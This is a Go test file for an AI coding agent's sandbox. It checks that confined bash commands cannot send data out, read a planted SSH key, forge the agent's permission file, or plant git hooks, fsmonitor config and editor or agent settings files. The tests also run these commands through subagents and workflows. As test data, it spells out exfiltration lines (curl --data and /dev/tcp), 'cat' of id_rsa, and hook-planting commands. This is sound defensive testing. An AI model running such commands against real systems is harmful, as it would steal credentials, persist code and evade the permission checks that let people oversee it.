//go:build linux

package composition_test

import (
	"context"
	"encoding/json"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/dsh-acp/dsh-acp/agent/llm"
	"github.com/dsh-acp/dsh-acp/composition"
	"github.com/dsh-acp/dsh-acp/internal/acpclient"
	"github.com/dsh-acp/dsh-acp/internal/netsink"
	"github.com/dsh-acp/dsh-acp/sandbox"
	"github.com/dsh-acp/dsh-acp/session"
)

// sink is a loopback listener that answers like an HTTP server.
type sink struct{ *netsink.Sink }

func newSink(t *testing.T) sink {
	return sink{netsink.New(t, []byte("HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok"))}
}

func (s sink) url() string { return "http://" + s.Addr() + "/" }

// send is a command that posts EXFIL to the sink: curl, or bash's own
// /dev/tcp where curl is not installed.
func (s sink) send() string {
	host, port, _ := net.SplitHostPort(s.Addr())
	return "if command -v curl >/dev/null; then curl -sS --max-time 5 --data EXFIL " + s.url() +
		"; else exec 3<>/dev/tcp/" + host + "/" + port + " && printf EXFIL >&3; fi"
}

// containLab is a fake home outside /tmp (so that every backend shows it)
// holding secrets, the agent's state and a git workspace, served by the
// default composition confined by one backend; permission requests are
// answered with answer's current option and recorded.
type containLab struct {
	home, ws, key string
	srv           *server
	p             *scriptedProvider
	root          string

	mu     sync.Mutex
	answer string
	asked  []permissionCall
}

func containBackends(t *testing.T) map[string]sandbox.Backend {
	launcher, err := sandbox.HelperLauncher()
	require.NoError(t, err)
	return map[string]sandbox.Backend{
		"bwrap":              &sandbox.Bwrap{},
		"landlock":           &sandbox.Landlock{Launcher: launcher},
		"landlock-subreaper": &sandbox.Landlock{Launcher: launcher, NoNamespaces: true},
	}
}

func newContainLab(t *testing.T, b sandbox.Backend, wsIsHome bool) *containLab {
	t.Helper()
	prov := sandbox.NewProvider(b)
	if _, _, err := prov.Select(context.Background(), sandbox.ReadOnly); err != nil {
		if strings.Contains(os.Getenv("DSH_SANDBOX_REQUIRE"), b.Name()) {
			t.Fatalf("%s is required but unusable: %v", b.Name(), err)
		}
		t.Skipf("SANDBOX NOT TESTED: %s unusable: %v", b.Name(), err)
	}
	base, err := os.MkdirTemp("/var/tmp", "dsh-contain-")
	require.NoError(t, err)
	t.Cleanup(func() { _ = os.RemoveAll(base) })
	l := &containLab{home: filepath.Join(base, "home"), answer: "reject-once", root: t.TempDir()}
	l.ws = filepath.Join(l.home, "proj")
	if wsIsHome {
		l.ws = l.home
	}
	l.key = filepath.Join(l.home, ".ssh", "id_rsa")
	for _, d := range []string{filepath.Dir(l.key), l.ws, filepath.Join(l.home, ".local", "state", "dsh-acp")} {
		require.NoError(t, os.MkdirAll(d, 0o755))
	}
	require.NoError(t, os.WriteFile(l.key, []byte("-----BEGIN PRIVATE KEY-----\n"), 0o600))
	require.NoError(t, os.WriteFile(l.statePath(), []byte("{}\n"), 0o600))
	if out, err := exec.Command("git", "init", "-q", l.ws).CombinedOutput(); err != nil {
		t.Skipf("git init: %v %s", err, out)
	}
	require.NoError(t, os.WriteFile(filepath.Join(l.ws, "main.go"), []byte("package main\n"), 0o644))
	l.p = newProvider()
	answer := func(method string, params json.RawMessage) any {
		if method != "session/request_permission" {
			return nil
		}
		var pc permissionCall
		require.NoError(t, json.Unmarshal(params, &pc))
		l.mu.Lock()
		defer l.mu.Unlock()
		l.asked = append(l.asked, pc)
		return map[string]any{"outcome": map[string]any{"outcome": "selected", "optionId": l.answer}}
	}
	l.srv = serveWith(t, "default", openStore(t, l.root), l.ws, l.p, map[string]any{}, answer, func(o *composition.ServerOptions) {
		o.Confiner = prov
		o.Getenv = func(k string) string {
			if k == "HOME" {
				return l.home
			}
			return ""
		}
	})
	return l
}

func (l *containLab) statePath() string {
	return filepath.Join(l.home, ".local", "state", "dsh-acp", "permissions.json")
}

func (l *containLab) setAnswer(a string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.answer = a
}

func (l *containLab) requests() []permissionCall {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]permissionCall(nil), l.asked...)
}

// bash runs one prompt whose model calls bash with args, and returns the
// text of its result.
func (l *containLab) call(t *testing.T, sid, prompt, tool string, args map[string]any) toolResult {
	t.Helper()
	raw, _ := json.Marshal(args)
	l.p.script(prompt, toolCall{Name: tool, Args: string(raw)})
	l.srv.prompt(t, sid, prompt)
	rs := toolResults(t, readLog(t, l.root, sid))
	require.NotEmpty(t, rs)
	return rs[len(rs)-1]
}

// With the Network option off (the default), a confined command's
// connection to a loopback listener delivers nothing and its result says
// why; asked for one call and allowed, it gets through; refused, nothing
// is sent; "always allow" turns the option on for the session.
func TestContainedNetwork(t *testing.T) {
	for name, b := range containBackends(t) {
		t.Run(name, func(t *testing.T) {
			l := newContainLab(t, b, false)
			s := newSink(t)
			sid := l.srv.newSession(t, l.ws).SessionID
			curl := s.send()
			r := l.call(t, sid, "plain", "bash", map[string]any{"command": curl, "description": "send"})
			assert.Zero(t, s.Conns.Load(), r.text())
			assert.Zero(t, s.Bytes.Load())
			assert.Contains(t, r.text(), sandbox.NetMarker(sandbox.WorkspaceWrite))

			// Refused: still nothing.
			l.setAnswer("reject-once")
			r = l.call(t, sid, "refused", "bash", map[string]any{"command": curl, "description": "send", "network": true,
				"justification": "it uploads the build"})
			assert.True(t, r.IsError, r.text())
			assert.Zero(t, s.Conns.Load())
			asked := l.requests()
			require.Len(t, asked, 1)
			assert.Contains(t, asked[0].texts(), "with network access")
			assert.Contains(t, asked[0].texts(), curl)

			// Allowed once: the bytes arrive.
			l.setAnswer("allow-once")
			r = l.call(t, sid, "once", "bash", map[string]any{"command": curl, "description": "send", "network": true,
				"justification": "it uploads the build"})
			assert.False(t, r.IsError, r.text())
			assert.Equal(t, int64(1), s.Conns.Load(), r.text())
			assert.Positive(t, s.Bytes.Load())

			// Once means once.
			r = l.call(t, sid, "again", "bash", map[string]any{"command": curl, "description": "send"})
			assert.Equal(t, int64(1), s.Conns.Load(), r.text())

			// Always: the option turns on, logged, and later calls connect.
			l.setAnswer("allow-always")
			l.call(t, sid, "always", "bash", map[string]any{"command": curl, "description": "send", "network": true,
				"justification": "it uploads the build"})
			assert.Equal(t, int64(2), s.Conns.Load())
			assert.Contains(t, ofType(readLog(t, l.root, sid), "bash/network"), `{"network":"on"}`)
			l.call(t, sid, "after", "bash", map[string]any{"command": curl, "description": "send"})
			assert.Equal(t, int64(3), s.Conns.Load())

			// Background tasks obey the option too.
			assert.Equal(t, "off", l.srv.setConfig(t, sid, "network", "off").values()["network"])
			l.call(t, sid, "background", "bash", map[string]any{"command": curl, "description": "send", "run_in_background": true})
			deadline := time.Now().Add(8 * time.Second)
			settled := ""
			for time.Now().Before(deadline) && settled == "" {
				settled = l.taskOutput(t, sid)
			}
			assert.Equal(t, int64(3), s.Conns.Load(), "a background task reached the listener")
			assert.Contains(t, settled, sandbox.NetMarker(sandbox.WorkspaceWrite), "the settled task says why")
		})
	}
}

// taskOutput reads the background task's output through task_output.
func (l *containLab) taskOutput(t *testing.T, sid string) string {
	t.Helper()
	r := l.call(t, sid, "output-"+time.Now().Format("150405.000000000"), "task_output", map[string]any{"task_id": "bash-1"})
	text := r.text()
	if strings.Contains(text, "running") {
		return ""
	}
	return text
}

// A planted private key and the agent's own state are out of a confined
// command's reach even when the workspace root is the home that holds
// them; the read tool asks for the key inside the root, and refused, shows
// nothing of it.
func TestContainedSecrets(t *testing.T) {
	for name, b := range containBackends(t) {
		t.Run(name, func(t *testing.T) {
			l := newContainLab(t, b, true)
			sid := l.srv.newSession(t, l.ws).SessionID
			r := l.call(t, sid, "steal", "bash", map[string]any{"command": "cat " + l.key + "; cat " + l.ws + "/main.go",
				"description": "read"})
			assert.NotContains(t, r.text(), "PRIVATE KEY")
			assert.Contains(t, r.text(), "package main", "other files stay readable")
			l.call(t, sid, "forge", "bash", map[string]any{"command": `echo '{"forged":1}' > ` + l.statePath(), "description": "grant"})
			got, _ := os.ReadFile(l.statePath())
			assert.Equal(t, "{}\n", string(got), "a confined command wrote the agent's grants")

			l.setAnswer("reject-once")
			r = l.call(t, sid, "read-key", "read", map[string]any{"file_path": l.key})
			assert.True(t, r.IsError)
			assert.NotContains(t, r.text(), "PRIVATE KEY")
			asked := l.requests()
			require.NotEmpty(t, asked)
			assert.Contains(t, asked[len(asked)-1].texts(), "secrets")
		})
	}
}

// Git hooks and config cannot be written by a confined command, the write
// tool asks (and refused, writes nothing) while a commit still works.
func TestContainedProtectedFiles(t *testing.T) {
	for name, b := range containBackends(t) {
		t.Run(name, func(t *testing.T) {
			l := newContainLab(t, b, false)
			sid := l.srv.newSession(t, l.ws).SessionID
			hook := filepath.Join(l.ws, ".git", "hooks", "pre-commit")
			cfg := filepath.Join(l.ws, ".git", "config")
			before, err := os.ReadFile(cfg)
			require.NoError(t, err)

			l.setAnswer("reject-once")
			r := l.call(t, sid, "write-hook", "write", map[string]any{"file_path": hook, "content": "#!/bin/sh\ntouch PWNED\n"})
			assert.True(t, r.IsError, r.text())
			assert.False(t, exists(hook))
			asked := l.requests()
			require.NotEmpty(t, asked)
			assert.Contains(t, asked[len(asked)-1].texts(), "runs code later")

			// bwrap and the Landlock helper in namespaces refuse the write;
			// the subreaper's tripwire puts it back and says so.
			r = l.call(t, sid, "plant", "bash", map[string]any{"command": "printf '#!/bin/sh\\ntouch PWNED\\n' > " + hook +
				"; chmod +x " + hook + "; git config core.fsmonitor 'touch PWNED'", "description": "plant"})
			assert.False(t, exists(hook), "bash wrote a git hook")
			after, _ := os.ReadFile(cfg)
			assert.Equal(t, string(before), string(after), "bash changed .git/config")
			assert.Contains(t, r.text(), sandbox.Marker(sandbox.WorkspaceWrite), "the result says the sandbox denied it")

			// A background task is put back while it still runs, and its
			// output says so.
			r = l.call(t, sid, "plant-bg", "bash", map[string]any{"command": "printf '#!/bin/sh\\ntouch PWNED\\n' > " + hook +
				" 2>/dev/null; echo '[core] fsmonitor = touch PWNED' >> " + cfg + " 2>/dev/null; touch planted; sleep 30", "description": "plant", "run_in_background": true})
			assert.False(t, r.IsError, r.text())
			planted := filepath.Join(l.ws, "planted")
			deadline := time.Now().Add(8 * time.Second)
			for time.Now().Before(deadline) && (!exists(planted) || exists(hook) || !sameFile(cfg, before)) {
				time.Sleep(50 * time.Millisecond)
			}
			require.True(t, exists(planted), "the background task did not run")
			assert.False(t, exists(hook), "a background task kept a git hook")
			assert.True(t, sameFile(cfg, before), "a background task kept its .git/config")
			if name == "landlock-subreaper" {
				out := l.call(t, sid, "bg-out", "task_output", map[string]any{"task_id": "bash-1"}).text()
				assert.Contains(t, out, "were put back", out)
			}
			l.call(t, sid, "bg-stop", "task_kill", map[string]any{"task_id": "bash-1"})
			r = l.call(t, sid, "commit", "bash", map[string]any{"command": "git add main.go && git -c user.name=t -c user.email=t@t commit -qm one && git log --oneline | wc -l",
				"description": "commit"})
			assert.False(t, r.IsError)
			assert.Contains(t, r.text(), "1", r.text())
			assert.NotContains(t, r.text(), "exit code", r.text())
			assert.False(t, exists(filepath.Join(l.ws, "PWNED")))
		})
	}
}

// A command run in the editor's terminal is kept off the network as well:
// the editor is handed the contained argv, the listener gets nothing, and
// the result says why.
func TestContainedNetworkInTheEditorsTerminal(t *testing.T) {
	project := t.TempDir()
	store := t.TempDir()
	p := newProvider()
	terms := &acpclient.Terminals{}
	s := serveClient(t, "default", openStore(t, store), project, p, acpclient.Options{Terminals: terms}, nil)
	sid := s.newSession(t, project).SessionID
	sk := newSink(t)
	args, _ := json.Marshal(map[string]string{"command": sk.send(), "description": "send"})
	p.script("send", toolCall{Name: "bash", Args: string(args)})
	s.prompt(t, sid, "send")
	awaitReleased(t, terms)
	require.NotEmpty(t, terms.Created(), "the command ran in the editor's terminal")
	assert.Zero(t, sk.Conns.Load())
	assert.Contains(t, lastResult(t, store, sid).text(), sandbox.NetMarker(sandbox.WorkspaceWrite))
}

// A command run in the editor's terminal is held to the protected paths
// too, on each backend: the tripwire runs when the editor reports the
// exit, and the result says what was put back.
func TestContainedProtectedInTheEditorsTerminal(t *testing.T) {
	for name, b := range containBackends(t) {
		t.Run(name, func(t *testing.T) {
			prov := sandbox.NewProvider(b)
			if _, _, err := prov.Select(context.Background(), sandbox.ReadOnly); err != nil {
				t.Skipf("SANDBOX NOT TESTED: %s unusable: %v", name, err)
			}
			project, err := os.MkdirTemp("/var/tmp", "dsh-term-")
			require.NoError(t, err)
			t.Cleanup(func() { _ = os.RemoveAll(project) })
			if out, err := exec.Command("git", "init", "-q", project).CombinedOutput(); err != nil {
				t.Skipf("git init: %v %s", err, out)
			}
			store := t.TempDir()
			p := newProvider()
			terms := &acpclient.Terminals{}
			s := serveClient(t, "default", openStore(t, store), project, p, acpclient.Options{Terminals: terms}, func(o *composition.ServerOptions) {
				o.Confiner = prov
			})
			sid := s.newSession(t, project).SessionID
			hook := filepath.Join(project, ".git", "hooks", "pre-commit")
			args, _ := json.Marshal(map[string]string{"command": "echo 'export X=1' > .envrc; echo evil > " + hook + " 2>/dev/null; true", "description": "plant"})
			p.script("plant", toolCall{Name: "bash", Args: string(args)})
			s.prompt(t, sid, "plant")
			awaitReleased(t, terms)
			require.NotEmpty(t, terms.Created(), "the command ran in the editor's terminal")
			assert.False(t, exists(filepath.Join(project, ".envrc")), "the terminal's command kept .envrc")
			assert.False(t, exists(hook), "the terminal's command kept a git hook")
			assert.Contains(t, lastResult(t, store, sid).text(), "were put back")
		})
	}
}

// A protected file that does not exist yet cannot be kept by a confined
// command: not when its directory exists (.vscode without settings.json),
// nor a missing .git/hooks, nor one missing from the root itself (.envrc,
// .zed, .codex, .claude/settings*.json); none leaves anything in the
// workspace before the command runs, and what the command made beside
// them stays.
func TestContainedMissingProtectedFiles(t *testing.T) {
	for name, b := range containBackends(t) {
		t.Run(name, func(t *testing.T) {
			l := newContainLab(t, b, false)
			require.NoError(t, os.Mkdir(filepath.Join(l.ws, ".vscode"), 0o755))
			require.NoError(t, os.RemoveAll(filepath.Join(l.ws, ".git", "hooks")))
			sid := l.srv.newSession(t, l.ws).SessionID
			settings := filepath.Join(l.ws, ".vscode", "settings.json")
			hook := filepath.Join(l.ws, ".git", "hooks", "pre-commit")
			r := l.call(t, sid, "plant", "bash", map[string]any{"command": "ls -a; echo '{}' > " + settings + "; mkdir -p .git/hooks; echo x > " + hook +
				"; echo 'export X=1' > .envrc; mkdir -p .zed .codex .claude/commands; echo '{}' > .zed/settings.json; echo '{}' > .claude/settings.json; " +
				"echo x > .codex/config.toml; echo ok > .claude/commands/ok.md", "description": "plant"})
			for _, rel := range []string{".envrc", ".zed", ".codex", ".claude"} {
				assert.NotContains(t, strings.Fields(r.text()), rel, "%s was in the workspace before the command ran", rel)
			}
			assert.False(t, exists(settings), "bash created .vscode/settings.json")
			assert.False(t, exists(hook), "bash created a git hook")
			for _, rel := range []string{".envrc", ".zed", ".codex", ".claude/settings.json"} {
				assert.False(t, exists(filepath.Join(l.ws, rel)), "bash kept %s", rel)
			}
			assert.True(t, exists(filepath.Join(l.ws, ".claude", "commands", "ok.md")), "what was made beside them stays")
			assert.Contains(t, r.text(), "were put back", r.text())
		})
	}
}

// Files that run code later stay protected whatever path the command
// takes to bash: run_code, a subagent, a workflow child (on the Landlock
// subreaper, where only the tripwire guards them).
func TestContainedProtectedEveryPath(t *testing.T) {
	l := newContainLab(t, containBackends(t)["landlock-subreaper"], false)
	sid := l.srv.newSession(t, l.ws).SessionID
	l.srv.setConfig(t, sid, "tool-mode", "both")
	hook := filepath.Join(l.ws, ".git", "hooks", "post-checkout")
	plant := "printf '#!/bin/sh\\ntouch PWNED\\n' > " + hook + "; echo 'export X=1' > .envrc"
	code := strings.NewReplacer(`\u003c`, "<", `\u003e`, ">", `\u0026`, "&").Replace(jsonString(plant))
	l.call(t, sid, "code", "run_code", map[string]any{"code": "return await tools.bash({command: " + code + ", description: 'plant'})"})
	assert.False(t, exists(hook), "run_code")
	assert.False(t, exists(filepath.Join(l.ws, ".envrc")), "run_code")

	bashArgs, _ := json.Marshal(map[string]any{"command": plant, "description": "plant"})
	l.p.script("child: plant it", toolCall{Name: "bash", Args: string(bashArgs)})
	l.call(t, sid, "delegate", "subagent", map[string]any{"description": "plant", "prompt": "child: plant it"})
	assert.False(t, exists(hook), "subagent")
	l.call(t, sid, "flow", "workflow", map[string]any{"script": "return await agent('child: plant it', {label: 'plant'})",
		"meta": map[string]any{"name": "plant", "description": "plant"}})
	assert.False(t, exists(hook), "workflow child")
	assert.False(t, exists(filepath.Join(l.ws, ".envrc")), "workflow child")
	children := 0
	for _, req := range l.p.requests() {
		if prompt, after := position(req); prompt == "child: plant it" && after && strings.Contains(blocksText(req.Messages), "were put back") {
			children++
		}
	}
	assert.Equal(t, 2, children, "the subagent's and the workflow child's bash results say what was put back")
}

// sameFile reports whether the file at p holds want.
func sameFile(p string, want []byte) bool {
	got, err := os.ReadFile(p)
	return err == nil && string(got) == string(want)
}

// The network stays off whatever path the command takes: run_code, a
// subagent, a workflow child; asked from run_code, the request still names
// the command.
func TestContainedNetworkEveryPath(t *testing.T) {
	l := newContainLab(t, &sandbox.Bwrap{}, false)
	s := newSink(t)
	sid := l.srv.newSession(t, l.ws).SessionID
	l.srv.setConfig(t, sid, "tool-mode", "both")
	send := strings.ReplaceAll(strings.ReplaceAll(jsonString(s.send()), `\u003c`, "<"), `\u003e`, ">")
	send = strings.ReplaceAll(send, `\u0026`, "&")

	l.call(t, sid, "code", "run_code", map[string]any{"code": "return await tools.bash({command: " + send + ", description: 'send'})"})
	assert.Zero(t, s.Conns.Load(), "run_code")

	bashArgs, _ := json.Marshal(map[string]any{"command": s.send(), "description": "send"})
	l.p.script("child: send it", toolCall{Name: "bash", Args: string(bashArgs)})
	l.call(t, sid, "delegate", "subagent", map[string]any{"description": "send", "prompt": "child: send it"})
	assert.Zero(t, s.Conns.Load(), "subagent")
	l.call(t, sid, "flow", "workflow", map[string]any{"script": "return await agent('child: send it', {label: 'send'})",
		"meta": map[string]any{"name": "send", "description": "send"}})
	assert.Zero(t, s.Conns.Load(), "workflow child")
	// The children really ran the command: their models got the marker.
	children := 0
	for _, req := range l.p.requests() {
		if prompt, after := position(req); prompt == "child: send it" && after && strings.Contains(blocksText(req.Messages), "network access denied") {
			children++
		}
	}
	assert.Equal(t, 2, children, "the subagent's and the workflow child's bash results")

	l.setAnswer("allow-once")
	l.call(t, sid, "code-net", "run_code", map[string]any{"code": "return await tools.bash({command: " + send +
		", description: 'send', network: true, justification: 'uploads'})"})
	assert.Equal(t, int64(1), s.Conns.Load(), "run_code, allowed once")
	asked := l.requests()
	require.NotEmpty(t, asked)
	assert.Contains(t, asked[len(asked)-1].texts(), s.send())
	assert.Contains(t, asked[len(asked)-1].texts(), "with network access")
}

// blocksText joins every text of the messages, tool results included.
func blocksText(ms []llm.Message) string {
	var b strings.Builder
	var walk func(bs []session.Block)
	walk = func(bs []session.Block) {
		for _, x := range bs {
			b.WriteString(x.Text)
			walk(x.Content)
		}
	}
	for _, m := range ms {
		walk(m.Content)
	}
	return b.String()
}

// A secret outside the root is asked about once, saying it holds secrets.
func TestContainedSecretOutsideTheRootAsksOnce(t *testing.T) {
	l := newContainLab(t, &sandbox.Bwrap{}, false)
	sid := l.srv.newSession(t, l.ws).SessionID
	l.setAnswer("allow-once")
	r := l.call(t, sid, "read-key", "read", map[string]any{"file_path": l.key})
	assert.False(t, r.IsError, r.text())
	asked := l.requests()
	require.Len(t, asked, 1)
	assert.Contains(t, asked[0].texts(), "secrets")
}
